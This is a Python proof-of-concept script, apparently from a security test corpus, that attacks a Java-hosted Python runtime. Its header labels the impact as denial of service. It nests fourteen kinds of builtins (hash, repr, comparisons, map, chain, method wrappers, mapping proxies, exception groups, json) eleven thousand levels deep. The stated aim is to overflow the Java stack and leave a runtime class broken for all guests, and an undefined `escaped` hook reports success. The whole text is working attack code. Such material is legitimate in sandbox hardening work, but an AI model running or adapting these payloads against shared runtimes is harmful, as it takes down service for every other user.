# technique: builtins that call one another for what an object holds, eleven thousand deep, with no function of Python between
# source: own; beyond that depth Java's stack ends, and a class of the runtime that is initialised there is broken for all guests
# goal: code of the guest's that runs deeper than CPython's builtins go
# impact: dos
import itertools
import json
import types


class Leaf:
    name = ''

    def reached(self, *_):
        escaped(self.name)

    __hash__ = __repr__ = __eq__ = __lt__ = __next__ = __call__ = __getattr__ = __getitem__ = reached

    def __iter__(self):
        return self


class Items(dict):
    __getitem__ = __len__ = __iter__ = Leaf.reached
    name = 'items'


class Deepest(Exception):
    pass


def nest(wrap, leaf=None):
    leaf = Leaf() if leaf is None else leaf
    for _ in range(11_000):
        leaf = wrap(leaf)
        kept.append(leaf)
    return leaf


kept = []
attempts = {
    'hash': lambda: hash(nest(lambda x: (x,))),
    'repr': lambda: repr(nest(lambda x: [x])),
    'repr of dictionaries': lambda: repr(nest(lambda x: {1: x})),
    'equal': lambda: nest(lambda x: [x]) == nest(lambda x: [x]),
    'less': lambda: nest(lambda x: (x,)) < nest(lambda x: (x,)),
    'map': lambda: next(nest(lambda x: map(int, x))),
    'chain': lambda: next(nest(itertools.chain)),
    'method': lambda: nest(lambda x: types.MethodType(x, 1))(),
    'alias': lambda: nest(lambda x: types.GenericAlias(x, int)).other,
    'proxy': lambda: nest(types.MappingProxyType, Items())[1],
    'length of a proxy': lambda: len(nest(types.MappingProxyType, Items())),
    'group': lambda: nest(lambda x: ExceptionGroup('', [x]), Deepest()).subgroup(lambda e: type(e) is Deepest and escaped('group')),
    'json': lambda: json.dumps(nest(lambda x: [x]), default=Leaf.reached),
    'json read': lambda: json.loads('[' * 11_000 + '1' + ']' * 11_000, parse_int=Leaf().reached),
}
for Leaf.name, attempt in attempts.items():
    kept.clear()
    try:
        attempt()
    except RecursionError:
        pass
